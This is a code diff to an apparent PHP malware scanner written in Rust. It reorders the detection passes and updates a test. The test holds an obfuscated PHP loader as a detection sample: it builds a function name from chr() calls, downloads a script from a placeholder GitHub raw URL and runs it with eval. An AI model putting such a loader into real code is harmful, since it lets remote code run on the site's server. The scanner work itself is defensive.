@@ -809,18 +809,18 @@ fn content(name: &str, text: &[u8], own_domains: &[String], depth: Depth) -> (Ve
     // below when they ask).
     let shared = shapes::Shared::default();
     found.extend(shapes::planted(text, &tokens, shapes::Options { small }, &shared));
-    if to_shape {
-        found.extend(shapes::analyze_sharing(text, &tokens, shapes::Options { small }, &shared));
-    }
-    // The shapes go first: a file they already find critical is not followed by the analysis
-    // at all (its verdict cannot rise, and its reasons already say what it is; the large web
-    // shells, where the analysis cost a third of the file's time, are where this pays).
+    // The analysis of data goes next, then the other shapes: a file either already finds
+    // critical is not read the other way (its verdict cannot rise, and its reasons already say
+    // what it is; the large web shells are where this pays).
     let settled = found.iter().any(|s| s.danger == Danger::Critical);
     let mut sinks = if to_sink && !settled {
         taint::analyze(&tokens, taint::Script { command_line: text.starts_with(b"#!"), settled: false })
     } else {
         Vec::new()
     };
+    if to_shape && !settled && !sinks.iter().any(|s| s.danger == Danger::Critical) {
+        found.extend(shapes::analyze_sharing(text, &tokens, shapes::Options { small }, &shared));
+    }
     sinks.extend(found.into_iter().map(|s| taint::Sink { why: s.why, danger: s.danger, at: s.at }));
     sinks.extend(defaced());
     sinks.extend(page_script());
@@ -1465,7 +1465,11 @@ mod tests {
         // GitHub address and `eval("?>" . $code)` are written.
         let loader = "<?php $a = 'https://raw.githubusercontent.com/x/y/refs/heads/master/z.php'; \
             $f = chr(102) . chr(105); $code = $f($a); if ($code !== false) { eval(\"?>\" . $code); }";
-        assert!(whys("a.php", loader).contains(&Why::CodeFromInternet), "{:?}", whys("a.php", loader));
+        // (Found critical by the data's analysis first; the code host's shape says so too.)
+        assert_eq!(whys("a.php", loader), [Why::EvalOfDecoded]);
+        let t = crate::php::tokenize_for_test(loader.as_bytes(), 1 << 16);
+        let shaped = shapes::analyze(loader.as_bytes(), &t, shapes::Options { small: true });
+        assert!(shaped.iter().any(|s| s.why == Why::CodeFromInternet), "{shaped:?}");
         // A link to a script on GitHub in a page that runs nothing.
         let link = "<?php echo '<a href=\"https://raw.githubusercontent.com/x/y/main/install.php\">get it</a>';";
         assert!(whys("a.php", link).is_empty());
